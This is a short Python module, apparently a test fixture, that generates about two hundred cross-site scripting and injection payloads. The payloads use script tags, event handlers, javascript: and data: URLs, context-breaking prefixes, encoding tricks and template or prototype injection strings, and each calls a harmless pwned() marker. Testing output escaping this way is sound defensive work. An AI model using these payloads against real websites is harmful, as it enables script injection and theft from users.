# SPDX-License-Identifier: Apache-2.0
"""Texts that would do something if any of them were ever taken for markup, an address or a script. Each calls pwned() with its number."""

TAGS = (
    "<script>{}</script>", "<script src=data:text/javascript,{}></script>", "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<svg/onload={}//", "<body onload={}>", "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src=\"javascript:parent.{}\"></iframe>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<details open ontoggle={}>x</details>",
    "<marquee onstart={}>x</marquee>", "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">", "<math><mtext></mtext><script>{}</script></math>",
    "<a href=\"javascript:{}\">x</a>", "<form><button formaction=\"javascript:{}\">x</button></form>", "<link rel=import href=\"data:text/html,<script>{}</script>\">",
    "<style>@import 'javascript:{}';</style>", "<style onload={}></style>", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=\"javascript:{}//\">",
    "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<xmp><img src=x onerror={}></xmp>", "<title><img src=x onerror={}></title>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=onload to={}>", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<p style=\"background:url(javascript:{})\">x</p>", "<div onmouseover={}>x</div>", "<x onclick={} tabindex=1 autofocus onfocus={}>", "<dialog open onclose={}>x</dialog>",
)
BREAKS = ("\"", "'", ">", "\">", "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "`", "\\\"", "\" x=\"", "</option></select>", "</td></tr></table>")
PLAIN = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}", "//evil.example/{}", "${{{}}}", "{{{{{}}}}}", "{{{{constructor.constructor('{}')()}}}}",
    "\");{}//", "');{}//", "`;{}//", "</script><script>{}</script>", "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "<scr<script>ipt>{}</scr</script>ipt>",
    "<!--<img src=x onerror={}>-->", "<![CDATA[<script>{}</script>]]>", "__proto__.x={}", "constructor", "__proto__", "toString", "\u202e{}\u202c", "\u2028{}\u2029", "🧂 {} é́́ \u200b", "<a>{}", "< img src=x onerror={} >",
    "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script\n>", "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR={}>",
)


def payloads():
    """About two hundred of them, all different."""
    templates = [*TAGS, *PLAIN]
    templates += [f"{end}{tag}" for end in BREAKS for tag in TAGS[:8]]
    return [template.replace("{{", "{").replace("}}", "}").replace("{}", f"pwned({number})") for number, template in enumerate(templates)]
